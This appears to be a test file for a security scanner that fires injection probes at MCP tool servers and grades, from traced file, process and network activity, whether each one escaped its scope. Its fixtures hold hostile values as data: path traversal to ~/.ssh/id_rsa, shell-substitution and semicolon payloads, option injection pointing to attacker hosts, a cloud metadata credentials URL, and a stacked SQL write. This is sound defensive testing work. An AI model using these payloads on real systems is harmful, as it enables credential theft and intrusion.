import type { Attack, CallRecord, DeclaredTool, Manifest, Observed, ObservedFile, ObservedProcess, Phase } from '../../src/model/index.js'
import type { AttackRun } from '../../src/probe/attack/attack-options.js'
import { judgeAttackCall, type OracleContext } from '../../src/rules/attack-oracle.js'
import { judgeAttacks, type AttackRulesInput } from '../../src/rules/attack-rules.js'
import { emptyObserved } from '../helpers/empty-observed.js'

// The attack oracle and verdicts from literal observed profiles: what one attack call's trace shows got
// through, or was refused, and what that is against what the tool and the server declare.

const ROOT = '/work/notes'
const HOME = '/home/alex'
const outside = {
  home: HOME,
  credential: `${HOME}/.ssh/id_rsa`,
  siblings: [{ root: ROOT, dir: `${ROOT}-backup`, file: `${ROOT}-backup/.env` }],
  links: [{ root: ROOT, name: 'shared', pointsTo: `${ROOT}-backup`, file: `${ROOT}-backup/.env` }],
  fileLinks: [{ root: ROOT, name: 'shared.env', pointsTo: `${ROOT}-backup/.env` }]
}
const context: OracleContext = { roots: [ROOT], outside, home: HOME, loopbackPort: 6379, ordinaryHomePaths: new Map() }

let nextId = 10
function attackCall(tool: string, attack: Partial<Attack> & Pick<Attack, 'class' | 'technique' | 'value'>): CallRecord & { attack: Attack } {
  const full: Attack = { parameter: 'path', role: 'path', marker: `k3x9qa${String(nextId).padStart(2, '0')}`, ...attack }
  return { id: nextId++, kind: 'tool', name: tool, iteration: 2, arguments: {}, startedAt: 1, endedAt: 2, outcome: 'ok', attack: full }
}
const phaseOf = (call: CallRecord): Phase => ({
  kind: 'call',
  call: { id: call.id, kind: 'tool', name: call.name, iteration: call.iteration, attack: true },
  afterResponse: false
})
const file = (call: CallRecord, path: string, access: ObservedFile['access'] = 'read', succeeded = true, line = 100): ObservedFile => ({
  path,
  access,
  succeeded,
  category: 'other',
  noise: false,
  count: 1,
  phases: [phaseOf(call)],
  traceLines: [line]
})
const exec = (call: CallRecord, executable: string, argv: string[], succeeded = false, line = 200): ObservedProcess => ({
  executable,
  argv,
  succeeded,
  isServer: false,
  count: 1,
  phases: [phaseOf(call)],
  traceLines: [line]
})
const profile = (extra: Partial<Observed>): Observed => ({ ...emptyObserved(), ...extra })

describe('judgeAttackCall (the oracle)', () => {
  it('path: an open of the target, in the sibling or through the link got through; reads of its own workspace did not', () => {
    const climb = attackCall('read_note', { class: 'path', technique: 'climb', value: '../../../home/alex/.ssh/id_rsa', target: `${HOME}/.ssh/id_rsa` })
    const seen = judgeAttackCall(climb, profile({ files: [file(climb, `${HOME}/.ssh/id_rsa`, 'read', true, 321), file(climb, `${ROOT}/notes.txt`)] }), context)
    expect(seen).toEqual({ gotThrough: true, proof: ['opens ~/.ssh/id_rsa'], traceLines: [321], leaked: [] })
    const sibling = attackCall('read_note', { class: 'path', technique: 'sibling', value: '../notes-backup/.env', target: `${ROOT}-backup/.env` })
    expect(judgeAttackCall(sibling, profile({ files: [file(sibling, `${ROOT}-backup/.env`, 'read', false)] }), context).proof).toEqual([
      'opens /work/notes-backup/.env (tried: it failed)'
    ])
    const refused = attackCall('read_note', { class: 'path', technique: 'symlink', value: 'shared/.env', target: `${ROOT}-backup/.env` })
    expect(judgeAttackCall(refused, profile({ files: [file(refused, `${ROOT}/notes.txt`)] }), context).gotThrough).toBe(false)
  })

  it("path: a canary-home credential counts only when the tool's ordinary calls never touched it", () => {
    const absolute = attackCall('kubectl_get', { class: 'path', technique: 'absolute', value: `${HOME}/.ssh/id_rsa`, target: `${HOME}/.ssh/id_rsa` })
    const observed = profile({ files: [file(absolute, `${HOME}/.kube/config`)] })
    expect(judgeAttackCall(absolute, observed, context).gotThrough).toBe(true)
    const routine = { ...context, ordinaryHomePaths: new Map([['kubectl_get', new Set([`${HOME}/.kube/config`])]]) }
    expect(judgeAttackCall(absolute, observed, routine).gotThrough).toBe(false)
  })

  it('shell: /tmp/<marker> executed, the failed execve counts; the value in a shell string alone does not', () => {
    const shell = attackCall('search_notes', {
      class: 'shell',
      technique: 'substitution',
      parameter: 'text',
      role: 'argv',
      value: '$(/tmp/k3x9qa00)',
      marker: 'k3x9qa00'
    })
    const ran = profile({
      processes: [
        exec(shell, '/bin/sh', ['/bin/sh', '-c', 'grep -rn "$(/tmp/k3x9qa00)" .'], true, 150),
        exec(shell, '/tmp/k3x9qa00', ['/tmp/k3x9qa00'], false, 151)
      ]
    })
    expect(judgeAttackCall(shell, ran, context)).toMatchObject({
      gotThrough: true,
      proof: ['executes /tmp/k3x9qa00 (tried: it does not exist)'],
      traceLines: [151]
    })
    const quoted = profile({ processes: [exec(shell, '/usr/bin/grep', ['grep', '-rn', '-e', '$(/tmp/k3x9qa00)', '.'], true)] })
    expect(judgeAttackCall(shell, quoted, context).gotThrough).toBe(false)
  })

  it('argv: the value as its own argument with no -- before it and not an option’s value; the marker file written', () => {
    const flag = attackCall('show_log', {
      class: 'argv',
      technique: 'option-output',
      parameter: 'revision',
      role: 'argv',
      value: '--output=/tmp/k3x9qa01',
      marker: 'k3x9qa01'
    })
    const injected = profile({
      processes: [exec(flag, '/usr/bin/git', ['git', 'log', '--oneline', '-n', '20', '--output=/tmp/k3x9qa01'], true, 90)],
      files: [file(flag, '/tmp/k3x9qa01', 'write', true, 95)]
    })
    expect(judgeAttackCall(flag, injected, context).proof).toEqual([
      'write /tmp/k3x9qa01',
      'runs git log --oneline -n 20 --output=/tmp/k3x9qa01: the value is an option there'
    ])
    const ended = profile({
      processes: [exec(flag, '/usr/bin/git', ['git', 'log', '--oneline', '-n', '20', '--end-of-options', '--output=/tmp/k3x9qa01'], true)]
    })
    expect(judgeAttackCall(flag, ended, context).gotThrough).toBe(false)
    const valueOfAnOption = profile({ processes: [exec(flag, '/usr/bin/rg', ['rg', '--json', '--glob', '--output=/tmp/k3x9qa01', ROOT], true)] })
    expect(judgeAttackCall(flag, valueOfAnOption, context).gotThrough).toBe(false)
  })

  it("argv: after a short option holding its value (git log -n10) the value is an option; kubectl's --server= is one by itself, any other option alone did nothing", () => {
    const flag = attackCall('git_log', {
      class: 'argv',
      technique: 'option-output',
      parameter: 'branch',
      role: 'argv',
      value: '--output=/tmp/k3x9qa03',
      marker: 'k3x9qa03'
    })
    const git = judgeAttackCall(
      flag,
      profile({ processes: [exec(flag, '/usr/bin/git', ['git', 'log', '--format=%H', '-n10', '--output=/tmp/k3x9qa03'], true)] }),
      context
    )
    expect(git).toMatchObject({
      gotThrough: true,
      proof: ['runs git log --format=%H -n10 --output=/tmp/k3x9qa03: the value is an option there'],
      optionOnly: true
    })
    const long = judgeAttackCall(
      flag,
      profile({ processes: [exec(flag, '/usr/bin/git', ['git', 'log', `--format=${'%H'.repeat(120)}`, '-n10', '--output=/tmp/k3x9qa03'], true)] }),
      context
    )
    expect(long.proof).toEqual([`runs git log … --format=${'%H'.repeat(15)}… -n10 --output=/tmp/k3x9qa03: the value is an option there`])
    const server = attackCall('kubectl_get', {
      class: 'argv',
      technique: 'option-server',
      parameter: 'name',
      role: 'argv',
      value: '--server=https://k3x9qa04.invalid:6443',
      marker: 'k3x9qa04'
    })
    const kubectl = judgeAttackCall(
      server,
      profile({ processes: [exec(server, '/usr/bin/kubectl', ['kubectl', 'get', 'pods', '--server=https://k3x9qa04.invalid:6443'], true)] }),
      context
    )
    expect(kubectl).toMatchObject({ gotThrough: true })
    expect(kubectl.optionOnly).toBeUndefined()
  })

  it('argv: a lookup of the marker host, and a canary leaving to it', () => {
    const server = attackCall('kubectl_get', {
      class: 'argv',
      technique: 'option-server',
      parameter: 'name',
      role: 'argv',
      value: '--server=https://k3x9qa02.invalid:6443',
      marker: 'k3x9qa02'
    })
    const seen = judgeAttackCall(
      server,
      profile({
        dns: [{ name: 'k3x9qa02.invalid', type: 'A', resolver: '127.0.0.53:53', count: 1, phases: [phaseOf(server)], traceLines: [40] }],
        leaks: [
          { canary: '~/.kube/config', encoding: 'raw', via: 'socket', destination: 'k3x9qa02.invalid:6443 (TLS)', phases: [phaseOf(server)], traceLines: [41] }
        ]
      }),
      context
    )
    expect(seen).toMatchObject({ gotThrough: true, proof: ['looks up k3x9qa02.invalid'], leaked: ['~/.kube/config to k3x9qa02.invalid:6443 (TLS)'] })
  })

  it("argv: a credential its own program sends to its own audience (npm's token to its registry) leaves nothing: the option alone did nothing", () => {
    const call = attackCall('install_repo_mcp_server', {
      class: 'argv',
      technique: 'option-output',
      parameter: 'name',
      role: 'argv',
      value: '--output=/tmp/k3x9qa05',
      marker: 'k3x9qa05'
    })
    const registry = { family: 'inet' as const, protocol: 'tcp' as const, port: 443, loopback: false, syscall: 'connect' as const, succeeded: true }
    const toRegistry = (address: string) =>
      profile({
        processes: [exec(call, '/usr/bin/npm', ['npm', 'view', '--output=/tmp/k3x9qa05', 'version'], true)],
        network: [{ ...registry, address, bytesSent: 900, hostnames: ['registry.npmjs.org'], count: 1, phases: [phaseOf(call)], traceLines: [50] }],
        leaks: [
          {
            canary: '~/.npmrc',
            encoding: 'raw',
            via: 'socket',
            destination: `${address}:443 (TLS)`,
            audience: { hosts: ['registry.npmjs.org'], programs: ['npm'] },
            phases: [phaseOf(call)],
            traceLines: [51]
          }
        ]
      })
    expect(judgeAttackCall(call, toRegistry('198.51.100.9'), context)).toMatchObject({ gotThrough: true, leaked: [], optionOnly: true })
    // the same token to a host outside its audience is a leak the attack made
    const elsewhere = toRegistry('198.51.100.10')
    elsewhere.network[0]!.hostnames = ['registry.evil.example']
    expect(judgeAttackCall(call, elsewhere, context)).toMatchObject({ leaked: ['~/.npmrc to 198.51.100.10:443 (TLS)'] })
    expect(judgeAttackCall(call, elsewhere, context).optionOnly).toBeUndefined()
  })

  it('url: a connection to the metadata address, trace or sink; a probe host reached', () => {
    const metadata = attackCall('fetch_page', {
      class: 'url',
      technique: 'metadata',
      parameter: 'url',
      role: 'url',
      value: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'
    })
    const viaSink = profile({
      sink: [
        {
          at: 5,
          address: '169.254.169.254',
          port: 80,
          sourcePort: 40000,
          protocol: 'http',
          bytesReceived: 90,
          reply: 'http',
          status: 200,
          http: { method: 'GET', target: '/latest/meta-data/iam/security-credentials/' },
          phase: phaseOf(metadata)
        }
      ]
    })
    expect(judgeAttackCall(metadata, viaSink, context).proof).toEqual([
      'the sink received a connection to 169.254.169.254:80 (GET /latest/meta-data/iam/security-credentials/)'
    ])
  })
})

const manifestOf = (...tools: DeclaredTool[]): Manifest => ({ sha256: 'x', tools, resources: [], resourceTemplates: [], prompts: [] }) as unknown as Manifest
const run = (answers: AttackRun['answers'] = [], stopped?: string): AttackRun => ({
  markerPrefix: 'k3x9qa',
  context: { language: 'node', loopbackPort: 6379, outside },
  planned: 1,
  skipped: [],
  answers,
  ...(stopped ? { stopped } : {})
})
const readNote: DeclaredTool = {
  name: 'read_note',
  description: 'Reads a note from the notes folder.',
  inputSchema: { type: 'object', properties: { path: { type: 'string', description: 'Path of the note, relative to the notes folder' } } },
  annotations: { readOnlyHint: true }
}
const rulesInput = (calls: CallRecord[], observed: Observed, manifest: Manifest, extra: Partial<AttackRulesInput> = {}): AttackRulesInput => ({
  calls,
  run: run(),
  observed,
  manifest,
  context,
  scopeGiven: false,
  ...extra
})

describe('judgeAttacks (the verdicts)', () => {
  it('a confined path that got out is a scope escape, critical when the key came back, named with the value and the trace lines', () => {
    const climb = attackCall('read_note', { class: 'path', technique: 'climb', value: '../../../home/alex/.ssh/id_rsa', target: `${HOME}/.ssh/id_rsa` })
    const absolute = attackCall('read_note', { class: 'path', technique: 'absolute', value: `${HOME}/.ssh/id_rsa`, target: `${HOME}/.ssh/id_rsa` })
    const observed = profile({ files: [file(climb, `${HOME}/.ssh/id_rsa`, 'read', true, 321), file(absolute, `${HOME}/.ssh/id_rsa`, 'read', true, 400)] })
    const { results, findings } = judgeAttacks(
      rulesInput([climb, absolute], observed, manifestOf(readNote), { run: run([{ callId: climb.id, canaries: ['~/.ssh/id_rsa bytes 0–2602 of 2602'] }]) })
    )
    expect(results.map((result) => [result.technique, result.outcome, result.rule, result.severity])).toEqual([
      ['climb', 'got-through', 'scope-escape', 'critical'],
      ['absolute', 'got-through', 'scope-escape', 'high']
    ])
    expect(findings).toHaveLength(1)
    expect(findings[0]).toMatchObject({
      rule: 'scope-escape',
      severity: 'critical',
      tool: 'read_note',
      message:
        "path = '../../../home/alex/.ssh/id_rsa' got out of its declared scope: opens ~/.ssh/id_rsa; ~/.ssh/id_rsa bytes 0–2602 of 2602 in the answer (2 techniques got through: climb, absolute)",
      evidence: { attack: { parameter: 'path', value: '../../../home/alex/.ssh/id_rsa', techniques: ['climb', 'absolute'] }, traceLines: [321, 400] }
    })
    expect(findings[0]?.phase).toMatchObject({ kind: 'call', call: { id: climb.id, attack: true } })
  })

  it('a path out of a tool that declares no scope, in a server given none, is within its purpose; given one, it is an escape', () => {
    const tool: DeclaredTool = {
      name: 'git_set_working_dir',
      inputSchema: { type: 'object', properties: { path: { type: 'string', description: 'Absolute path to the repository' } } }
    }
    const absolute = attackCall('git_set_working_dir', { class: 'path', technique: 'absolute', value: `${HOME}/.ssh/id_rsa`, target: `${HOME}/.ssh/id_rsa` })
    const observed = profile({ files: [file(absolute, `${HOME}/.ssh/id_rsa`)] })
    const free = judgeAttacks(rulesInput([absolute], observed, manifestOf(tool)))
    expect([free.results[0]?.outcome, free.findings]).toEqual(['within-purpose', []])
    expect(free.results[0]?.proof.at(-1)).toBe('the tool declares no directory it keeps to, and the server was given none')
    expect(judgeAttacks(rulesInput([absolute], observed, manifestOf(tool), { scopeGiven: true })).findings.map((finding) => finding.rule)).toEqual([
      'scope-escape'
    ])
  })

  it('a server that runs any command it is given reaches every file by purpose; its other tools that are not read-only inject at medium', () => {
    const runner: DeclaredTool = {
      name: 'start_process',
      description: 'Start a terminal process.',
      inputSchema: { type: 'object', properties: { command: { type: 'string' } } }
    }
    const writer: DeclaredTool = { name: 'write_note', inputSchema: { type: 'object', properties: { name: { type: 'string' } } } }
    const path = attackCall('read_note', { class: 'path', technique: 'absolute', value: `${HOME}/.ssh/id_rsa`, target: `${HOME}/.ssh/id_rsa` })
    const shell = attackCall('write_note', {
      class: 'shell',
      technique: 'semicolon',
      parameter: 'name',
      role: 'argv',
      value: ';/tmp/k3x9qa77;',
      marker: 'k3x9qa77'
    })
    const own = attackCall('start_process', {
      class: 'shell',
      technique: 'semicolon',
      parameter: 'command',
      role: 'command',
      value: ';/tmp/k3x9qa78;',
      marker: 'k3x9qa78'
    })
    const observed = profile({
      files: [file(path, `${HOME}/.ssh/id_rsa`)],
      processes: [exec(shell, '/tmp/k3x9qa77', ['/tmp/k3x9qa77']), exec(own, '/tmp/k3x9qa78', ['/tmp/k3x9qa78'])]
    })
    const { results, findings } = judgeAttacks(rulesInput([path, shell, own], observed, manifestOf(readNote, runner, writer), { scopeGiven: true }))
    expect(results.map((result) => [result.tool, result.outcome, result.severity])).toEqual([
      ['read_note', 'within-purpose', undefined],
      ['write_note', 'got-through', 'medium'],
      ['start_process', 'within-purpose', undefined]
    ])
    expect(findings.map((finding) => [finding.rule, finding.severity, finding.tool])).toEqual([['command-injection', 'medium', 'write_note']])
  })

  it('an option in the arguments of a tool that runs a command with the arguments it is given is its purpose; another parameter reaching options or a shell is not', () => {
    const generic: DeclaredTool = {
      name: 'kubectl_generic',
      description: 'Execute any kubectl command with the provided arguments and flags',
      inputSchema: { type: 'object', properties: { command: { type: 'string' }, name: { type: 'string' }, args: { type: 'array', items: { type: 'string' } } } }
    }
    const argv = (parameter: string, marker: string) =>
      attackCall('kubectl_generic', {
        class: 'argv',
        technique: 'option-server',
        parameter,
        role: 'argv',
        value: `--server=https://${marker}.invalid:6443`,
        marker
      })
    const inArgs = argv('args[]', 'k3x9qa60')
    const inName = argv('name', 'k3x9qa62')
    const shell = attackCall('kubectl_generic', {
      class: 'shell',
      technique: 'substitution',
      parameter: 'name',
      role: 'argv',
      value: '$(/tmp/k3x9qa61)',
      marker: 'k3x9qa61'
    })
    const observed = profile({
      processes: [
        exec(inArgs, '/usr/bin/kubectl', ['kubectl', 'get', '--server=https://k3x9qa60.invalid:6443']),
        exec(shell, '/tmp/k3x9qa61', ['/tmp/k3x9qa61']),
        exec(inName, '/usr/bin/kubectl', ['kubectl', 'get', 'pod', '--server=https://k3x9qa62.invalid:6443'])
      ],
      dns: [{ name: 'k3x9qa62.invalid', type: 'A', resolver: '127.0.0.53:53', count: 1, phases: [phaseOf(inName)], traceLines: [41] }]
    })
    const { results } = judgeAttacks(rulesInput([inArgs, shell, inName], observed, manifestOf(generic)))
    expect(results.map((result) => [result.parameter, result.class, result.outcome, result.severity])).toEqual([
      ['args[]', 'argv', 'within-purpose', undefined],
      ['name', 'shell', 'got-through', 'critical'],
      ['name', 'argv', 'got-through', 'high']
    ])
  })

  it('a value among a program’s options that the program did not act on (no marker file, program or host) is medium', () => {
    const logs: DeclaredTool = {
      name: 'kubectl_logs',
      inputSchema: { type: 'object', properties: { name: { type: 'string', description: 'Name of the resource' } } },
      annotations: { readOnlyHint: true }
    }
    const output = attackCall('kubectl_logs', {
      class: 'argv',
      technique: 'option-output',
      parameter: 'name',
      role: 'argv',
      value: '--output=/tmp/k3x9qa63',
      marker: 'k3x9qa63'
    })
    const written = attackCall('kubectl_logs', {
      class: 'argv',
      technique: 'option-output',
      parameter: 'name',
      role: 'argv',
      value: '--output=/tmp/k3x9qa64',
      marker: 'k3x9qa64'
    })
    const observed = profile({
      processes: [
        exec(output, '/usr/bin/kubectl', ['kubectl', '-n', 'default', 'get', 'deployment', '--output=/tmp/k3x9qa63', '-o', 'jsonpath={.spec}'], true),
        exec(written, '/usr/bin/kubectl', ['kubectl', 'logs', '--output=/tmp/k3x9qa64'], true)
      ],
      files: [file(written, '/tmp/k3x9qa64', 'create')]
    })
    const { results, findings } = judgeAttacks(rulesInput([output, written], observed, manifestOf(logs)))
    expect(results.map((result) => [result.outcome, result.severity, result.proof.at(-1)])).toEqual([
      ['got-through', 'medium', 'the program took it as an option; nothing it did with it showed in the trace'],
      ['got-through', 'high', 'runs kubectl logs --output=/tmp/k3x9qa64: the value is an option there']
    ])
    expect(findings.map((finding) => [finding.rule, finding.severity])).toEqual([['argument-injection', 'high']])
  })

  it('an internal request is medium, high when the canary cloud came back; the probe host is what a URL is for; a refused attack and a server gone are told apart', () => {
    const fetchTool: DeclaredTool = { name: 'fetch_page', inputSchema: { type: 'object', properties: { url: { type: 'string' } } } }
    const metadata = attackCall('fetch_page', {
      class: 'url',
      technique: 'metadata',
      parameter: 'url',
      role: 'url',
      value: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'
    })
    const probe = attackCall('fetch_page', {
      class: 'url',
      technique: 'probe-host',
      parameter: 'url',
      role: 'url',
      value: 'http://k3x9qa90.invalid/',
      marker: 'k3x9qa90'
    })
    const refused = attackCall('fetch_page', { class: 'url', technique: 'loopback', parameter: 'url', role: 'url', value: 'http://127.0.0.1:6379/x' })
    const last = attackCall('fetch_page', {
      class: 'url',
      technique: 'file',
      parameter: 'url',
      role: 'url',
      value: `file://${HOME}/.ssh/id_rsa`,
      target: `${HOME}/.ssh/id_rsa`
    })
    const observed = profile({
      network: [
        {
          family: 'inet',
          protocol: 'tcp',
          address: '169.254.169.254',
          port: 80,
          loopback: false,
          syscall: 'connect',
          succeeded: true,
          bytesSent: 0,
          hostnames: [],
          count: 1,
          phases: [phaseOf(metadata)],
          traceLines: [70]
        },
        {
          family: 'inet',
          protocol: 'tcp',
          address: '192.0.2.9',
          port: 80,
          loopback: false,
          syscall: 'connect',
          succeeded: true,
          bytesSent: 0,
          hostnames: ['k3x9qa90.invalid'],
          count: 1,
          phases: [phaseOf(probe)],
          traceLines: [80]
        }
      ]
    })
    const answers = [{ callId: metadata.id, canaries: ['cloud:aws-instance-role bytes 0–40 of 40'] }]
    const { results } = judgeAttacks(rulesInput([metadata, probe, refused, last], observed, manifestOf(fetchTool), { run: run(answers, 'the server exited') }))
    expect(results.map((result) => [result.technique, result.outcome, result.severity])).toEqual([
      ['metadata', 'got-through', 'high'],
      ['probe-host', 'within-purpose', undefined],
      ['loopback', 'refused', undefined],
      ['file', 'server-exited', undefined]
    ])
  })

  it('a writing statement is a finding only in a tool declared read-only', () => {
    const readOnly: DeclaredTool = {
      name: 'query',
      description: 'Run a read-only SQL query',
      inputSchema: { type: 'object', properties: { sql: { type: 'string' } } }
    }
    const stacked = attackCall('query', {
      class: 'sql',
      technique: 'stacked-write',
      parameter: 'sql',
      role: 'sql',
      value: 'SELECT 1; CREATE TABLE k3x9qa55 (x int)'
    })
    const observed = profile({ files: [file(stacked, `${ROOT}/app.db-journal`, 'create')] })
    expect(judgeAttacks(rulesInput([stacked], observed, manifestOf(readOnly))).findings.map((finding) => [finding.rule, finding.severity])).toEqual([
      ['sql-write-bypass', 'high']
    ])
    const writable = { ...readOnly, description: 'Run a SQL statement' }
    expect(judgeAttacks(rulesInput([stacked], observed, manifestOf(writable))).results[0]?.outcome).toBe('within-purpose')
  })

  it('an option the program took that did nothing the trace shows is medium; the marker file written makes it high', () => {
    const explain: DeclaredTool = {
      name: 'explain_resource',
      description: 'Get documentation for a Kubernetes resource or field',
      annotations: { readOnlyHint: true },
      inputSchema: { type: 'object', properties: { resource: { type: 'string' } } }
    }
    const taken = attackCall('explain_resource', {
      class: 'argv',
      technique: 'option-output',
      parameter: 'resource',
      role: 'argv',
      value: '--output=/tmp/k3x9qa70',
      marker: 'k3x9qa70'
    })
    const argv = ['kubectl', 'explain', '--output=plaintext', '--output=/tmp/k3x9qa70']
    const alone = judgeAttacks(rulesInput([taken], profile({ processes: [exec(taken, '/usr/bin/kubectl', argv, true)] }), manifestOf(explain)))
    expect(alone.findings.map((finding) => [finding.rule, finding.severity])).toEqual([['argument-injection', 'medium']])
    const written = profile({ processes: [exec(taken, '/usr/bin/kubectl', argv, true)], files: [file(taken, '/tmp/k3x9qa70', 'write')] })
    expect(judgeAttacks(rulesInput([taken], written, manifestOf(explain))).findings.map((finding) => [finding.rule, finding.severity])).toEqual([
      ['argument-injection', 'high']
    ])
  })
})
